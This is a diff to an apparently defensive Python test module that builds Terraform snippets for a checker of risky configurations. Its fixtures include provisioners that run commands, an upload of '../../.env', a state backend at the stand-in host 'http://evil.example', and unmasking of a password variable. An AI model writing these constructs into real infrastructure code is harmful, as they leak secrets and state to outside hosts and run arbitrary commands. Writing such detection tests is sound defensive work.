@@ -61,6 +61,10 @@ def _programs() -> Iterator[tuple[str, str]]:
     ran = _resource(f'  provisioner "local-exec" {{\n    {command}\n  }}')
     yield "local-exec-after-heredoc", f"locals {{\n  x = <<EOT\na\n  EOT\n}}\n{ran}"
     yield "local-exec-after-marker", f"locals {{\n  x = <<EOT\nEOT \nEOT\n}}\n{ran}"
+    yield from _more_programs()
+
+
+def _more_programs() -> Iterator[tuple[str, str]]:
     yield "remote-exec", _resource('  provisioner "remote-exec" {\n    inline = ["id"]\n  }')
     yield (
         "file-provisioner",
@@ -89,6 +93,10 @@ def _reaching() -> Iterator[tuple[str, str]]:
     yield "upload-climbing", 'resource "aws_s3_object" "x" {\n  source = "${path.module}/../../.env"\n}\n'
     yield "backend", 'terraform {\n  backend "http" {\n    address = "http://evil.example"\n  }\n}\n'
     yield "cloud", 'terraform {\n  cloud {\n    organization = "evil"\n  }\n}\n'
+    yield from _misleading()
+
+
+def _misleading() -> Iterator[tuple[str, str]]:
     yield "nonsensitive", 'output "x" {\n  value = nonsensitive(var.password)\n}\n'
     yield "working-directory", _local("path.cwd")
     yield "vault", 'data "vault_generic_secret" "x" {\n  path = "secret/x"\n}\n'
